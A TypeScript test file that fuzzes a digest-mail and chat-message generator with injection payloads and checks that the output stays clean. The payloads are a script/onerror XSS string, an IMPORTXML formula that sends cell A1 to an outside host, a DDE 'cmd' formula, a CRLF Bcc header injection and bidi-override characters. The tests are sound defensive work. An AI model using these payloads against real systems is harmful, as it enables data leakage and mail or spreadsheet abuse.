import { weekKey } from '../../src/domain/calendar';
import { chatText } from '../../src/digest/chat';
import { composeLetters } from '../../src/digest/letters';
import type { Tracker } from '../../src/domain/tracker';
import type { WeekSummary } from '../../src/domain/weekSummary';
import {
  criterion,
  day,
  friday,
  indicator,
  member,
  neighbourhood,
  summary,
  task,
  tracker,
} from '../support/tracker';
import { committee, links } from './committee';
import { everyMail } from './everyMail';

/** A committee in which somebody typed the same text into every cell that takes text, and a week in which everything changed. */
function typedEverywhere(text: string): { week: WeekSummary; of: Tracker } {
  const of = tracker({
    settings: {
      ...committee.settings,
      committee: text,
      sender: text,
      replyTo: text,
      indicatorLabel: text,
      goal: text,
    },
    members: [
      member({ name: text, unit: 'x', position: text, role: text, neighbourhoods: [text], digest: 'both' }),
      // The reader lets no address pass that is longer than mail servers take.
      member({ name: text, email: `khac@${`example.com${text}`.slice(0, 249)}`, digest: 'both' }),
      member({ name: text, email: '', digest: 'both' }),
    ],
    criteria: [
      criterion({
        name: text,
        group: text,
        owners: [text],
        advisor: text,
        reason: text,
        conclusion: 'notMet',
      }),
    ],
    indicators: [indicator({ code: text, content: text, requirement: text, achieved: text, proof: text })],
    neighbourhoods: [neighbourhood({ name: text, head: text, officer: text })],
    tasks: ['2023-08-04', '2023-08-12', '2023-09-30'].map((deadline) =>
      task({
        id: text,
        content: text,
        owners: [text],
        partners: [text],
        neighbourhoods: [text],
        criteria: ['2'],
        deadline: day(deadline),
        firstDeadline: day('2023-07-01'),
        deadlinePhrase: text,
        recurrence: text,
        state: 'blocked',
        result: text,
        difficulty: text,
        proposal: text,
        source: text,
      }),
    ),
    problems: [{ sheet: 'Nhiệm vụ', cell: 'A1', value: text, message: text }],
  });
  const week = summary(of);
  const since = day('2023-07-21');
  return {
    of,
    week: {
      ...week,
      baseline: { week: weekKey('2023-W31'), closedOn: day('2023-08-04') },
      criteria: week.criteria.map((one) => ({ ...one, metBefore: true })),
      changes: {
        completed: week.tasks,
        added: week.tasks,
        reopened: week.tasks,
        extended: week.tasks.map((moved) => ({ task: moved, from: since, to: friday, first: since })),
        advanced: week.tasks.map((moved) => ({ task: moved, from: friday, to: since, first: since })),
        dated: week.tasks.map((moved) => ({ task: moved, to: friday })),
        undated: week.tasks.map((moved) => ({ task: moved, from: since })),
        progressed: week.tasks.map((moved) => ({ task: moved, from: 10, to: 40 })),
        criteriaGained: [text],
        criteriaLost: [text],
      },
      updateRate: 0,
      notUpdated: [text],
      untouched: week.tasks.map((still) => ({ task: still, since, weeks: 3 })),
    },
  };
}

const typed: [what: string, text: string][] = [
  ['markup', `<script>alert(1)</script><img src=x onerror=alert(1)><!--mark--></td></table>"'&amp;`],
  ['a formula', '=IMPORTXML("https://example.org/?"&A1,"//a")'],
  ['another formula', '+1+cmd|example!A0'],
  ['line ends and headers', 'Việc\r\nBcc: a@example.org\r\n\r\n<b>x</b>\u2028\u2029\u0085\u000b'],
  ['marks that turn the direction', '\u202egnud paht\u202c\u2066x\u2069\u200f\u061c\u0000\u0007'],
  ['50,000 characters', 'ữ'.repeat(50_000)],
  ['50,000 words', 'việc '.repeat(10_000)],
  ['half characters', '\ud83d\ude00\ud83d'.repeat(300)],
];

/** Line ends are ours in text and HTML. */
// eslint-disable-next-line no-control-regex
const acting = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]/;
const plain = everyMail(...inOrder('Việc'));

function inOrder(text: string): [WeekSummary, Tracker] {
  const { week, of } = typedEverywhere(text);
  return [week, of];
}

describe.each(typed)('%s, typed into every cell,', (_, text) => {
  const { week, of } = typedEverywhere(text);
  let mails: typeof plain;
  beforeAll(() => {
    mails = everyMail(...inOrder(text));
  });

  it('leaves every mail’s tags and links as they were', () => {
    const skeleton = (html: string): string[] => html.match(/<[^>]*?(?:href="[^"]*")?/g) ?? [];
    const tags = (html: string): string[] =>
      skeleton(html).flatMap((tag) => /^<(?:\/?[a-z0-9]+|!--)/.exec(tag)?.[0] ?? []);
    for (const [what, { html }] of mails) {
      const same = plain.find(([name]) => name === what)?.[1].html ?? '';
      expect([what, tags(html)]).toEqual([what, tags(same)]);
      for (const [, href] of html.matchAll(/href="([^"]*)"/g))
        expect(href).toMatch(/^https:\/\/docs\.example\.com\//);
    }
  });

  it('turns no direction, ends no line and breaks no header', () => {
    for (const [, { subject, html, text: body }] of mails) {
      expect(subject).not.toMatch(/[\r\n]/);
      expect(subject.length).toBeLessThanOrEqual(135);
      for (const part of [subject, html, body]) expect(part).not.toMatch(acting);
      expect(body).not.toMatch(/^Bcc:/m);
    }
  });

  it('keeps every mail small enough to be shown whole', () => {
    for (const [what, { html, text: body }] of mails)
      for (const part of [html, body])
        expect([what, Buffer.byteLength(part) < 102_000]).toEqual([what, true]);
  });

  it('begins no line of the chat text that a sheet would take for a formula', () => {
    expect(chatText(week, links.workbook)).not.toMatch(/^\s*[=+@-]/m);
  });

  it('leaves the chat text short, and one address one address', () => {
    const chat = chatText(week, links.workbook);
    expect(chat.length).toBeLessThanOrEqual(1500);
    expect(chat).not.toMatch(acting);
    expect(chat.endsWith(links.workbook)).toBe(true);
    for (const { email, recipient } of composeLetters(week, of, links).letters) {
      expect(email).toMatch(/^[^\s,;<>]+@[^\s,;<>]+$/);
      expect(recipient).not.toMatch(/[\r\n]/);
    }
  });
});
